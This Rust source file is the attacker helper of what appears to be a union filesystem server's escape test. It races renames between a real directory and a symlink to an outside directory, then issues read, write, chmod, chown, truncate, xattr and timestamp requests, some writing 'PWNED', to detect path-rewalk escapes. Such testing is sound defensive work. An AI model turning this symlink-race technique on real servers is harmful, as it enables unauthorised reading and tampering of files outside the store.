//! A process inside a mounted union trying to make the union server act
//! outside the store, as the union escape test runs it (as an ordinary
//! user, its working directory a directory of the union it owns).
//!
//! `union-attacker VARIANT MILLIS OUTSIDE_DIR`: keeps a real directory `d`
//! (with its own `d/secret`) and a symlink `lnk` to `OUTSIDE_DIR`, swaps
//! them by renames in one thread, and in another asks for VARIANT on
//! `d/secret` through an `O_PATH` descriptor of the real `d`, for MILLIS
//! milliseconds. A server that walks a path string again after the lookup
//! follows `d` when it is the symlink. Exit status 3: it read the outside
//! file's content; 0 otherwise (whether anything outside changed is the
//! test's to check).

use rustix::fs::{AtFlags, Mode, OFlags, Timespec, Timestamps, XattrFlags, CWD};
use std::io::Read;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// What the outside file holds: seen by the attacker, it leaked.
const SECRET: &[u8] = b"TOPSECRET";

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, variant, millis, outside] = &args[..] else {
        eprintln!("usage: union-attacker VARIANT MILLIS OUTSIDE_DIR");
        std::process::exit(2);
    };
    let until = Instant::now() + Duration::from_millis(millis.parse().expect("MILLIS"));
    // A directory of its own per run: renames of earlier runs left `d`
    // either way round.
    std::fs::create_dir(variant).expect("mkdir");
    std::env::set_current_dir(variant).expect("chdir");
    std::fs::create_dir("d").expect("mkdir d");
    std::fs::write("d/secret", b"mine").expect("d/secret");
    std::os::unix::fs::symlink(outside, "lnk").expect("lnk");
    let d = rustix::fs::open(
        "d",
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .expect("open d");
    let stop = AtomicBool::new(false);
    let leaked = std::thread::scope(|s| {
        s.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                for (from, to) in [("d", "d2"), ("lnk", "d"), ("d", "lnk"), ("d2", "d")] {
                    let _ = rustix::fs::rename(from, to);
                }
            }
        });
        let mut leaked = false;
        while Instant::now() < until {
            leaked |= attempt(variant, &d);
        }
        stop.store(true, Ordering::Relaxed);
        leaked
    });
    std::process::exit(if leaked { 3 } else { 0 });
}

/// One request of `variant` on `secret` in `d`; true when it read the
/// outside file's content.
fn attempt(variant: &str, d: &OwnedFd) -> bool {
    let by_path = format!("/proc/self/fd/{}/secret", d.as_raw_fd());
    let open =
        |flags: OFlags| rustix::fs::openat(d, "secret", flags | OFlags::CLOEXEC, Mode::empty());
    match variant {
        "read" => {
            if let Ok(fd) = open(OFlags::RDONLY) {
                let mut buf = Vec::new();
                let _ = std::fs::File::from(fd).read_to_end(&mut buf);
                return buf.windows(SECRET.len()).any(|w| w == SECRET);
            }
        }
        "write" => {
            if let Ok(fd) = open(OFlags::RDWR) {
                let mut buf = [0u8; 16];
                let n = rustix::io::pread(&fd, &mut buf, 0).unwrap_or(0);
                let _ = rustix::io::pwrite(&fd, b"PWNED", 0);
                return buf[..n].windows(SECRET.len()).any(|w| w == SECRET);
            }
        }
        "create" => {
            if rustix::fs::openat(
                d,
                "created",
                OFlags::CREATE | OFlags::WRONLY | OFlags::CLOEXEC,
                Mode::from_raw_mode(0o644),
            )
            .is_ok()
            {
                let _ = rustix::fs::unlinkat(d, "created", AtFlags::empty());
            }
        }
        "chmod" => {
            let _ = rustix::fs::chmodat(d, "secret", Mode::from_raw_mode(0o666), AtFlags::empty());
        }
        "chown" => {
            let me = rustix::process::getuid();
            let group = rustix::process::getgid();
            let _ = rustix::fs::chownat(d, "secret", Some(me), Some(group), AtFlags::empty());
        }
        "truncate" => {
            let _ = open(OFlags::WRONLY | OFlags::TRUNC);
            // truncate(2) by path: a SETATTR with no file handle.
            let _ = nix::unistd::truncate(by_path.as_str(), 0);
        }
        "setxattr" => {
            let _ = rustix::fs::setxattr(&by_path, "user.pwned", b"1", XattrFlags::empty());
        }
        "removexattr" => {
            let _ = rustix::fs::removexattr(&by_path, "user.keep");
        }
        "utimes" => {
            let zero = Timespec {
                tv_sec: 0,
                tv_nsec: 0,
            };
            let times = Timestamps {
                last_access: zero,
                last_modification: zero,
            };
            let _ = rustix::fs::utimensat(d, "secret", &times, AtFlags::empty());
        }
        "copy-up" => {
            // A lower file below a directory the attacker can only remove
            // and re-create, never rename (it has read-only parts).
            if let Ok(fd) = rustix::fs::openat(
                CWD,
                "../lower/file",
                OFlags::RDWR | OFlags::CLOEXEC,
                Mode::empty(),
            ) {
                let _ = rustix::io::pwrite(&fd, b"PWNED", 0);
            }
        }
        other => {
            eprintln!("unknown variant {other}");
            std::process::exit(2);
        }
    }
    false
}
